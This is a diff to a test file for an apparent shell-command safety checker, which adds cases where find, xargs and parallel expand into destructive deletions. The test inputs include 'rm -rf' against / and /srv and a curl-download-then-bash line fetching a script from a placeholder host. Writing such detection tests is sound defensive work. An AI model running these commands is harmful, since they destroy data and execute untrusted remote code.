@@ -82,7 +82,9 @@ def test_python_stdin_heredoc_is_read():
 
 def test_xargs_find_and_parallel():
     assert ["rm", "-rf", None] in argvs("ls | xargs -0 -I{} rm -rf {}")
-    assert ["rm", "-f", None] in argvs("find . -name '*.pyc' -exec rm -f {} +")
+    # {} is anything under the start point: as wide as a glob of it
+    assert ["rm", "-f", "./*"] in argvs("find . -name '*.pyc' -exec rm -f {} +")
+    assert ["rm", "-rf", "/srv/*"] in argvs("find /srv -exec rm -rf {} \\;")
     assert ["rm", "-rf", "/"] in argvs("parallel rm -rf ::: /")
 
 
@@ -127,8 +129,13 @@ def test_script_named_to_a_shell_is_read(tmp_path):
     (tmp_path / "go.sh").write_text("echo hi\nrm -rf /srv/www\n")
     got = unwrap(parse("bash go.sh"), {}, str(tmp_path))
     assert ["rm", "-rf", "/srv/www"] in [[w.value for w in i.argv] for i in got.invocations]
-    missing = unwrap(parse("bash nowhere.sh"), {}, str(tmp_path))
-    assert "gatesh:opaque_script" in [m.rule_id for m in missing.matches]
+    # missing, and made by the same command: its content is unknown
+    text = "curl -fsSLo fetched.sh https://x.example/i.sh && bash fetched.sh"
+    made = unwrap(parse(text), {}, str(tmp_path), source=text)
+    assert "gatesh:opaque_script" in [m.rule_id for m in made.matches]
+    # missing and named nowhere else: bash will only report that it is missing
+    missing = unwrap(parse("bash nowhere.sh"), {}, str(tmp_path), source="bash nowhere.sh")
+    assert missing.matches == []
 
 
 def test_lookups_that_do_not_run_are_not_unwrapped():
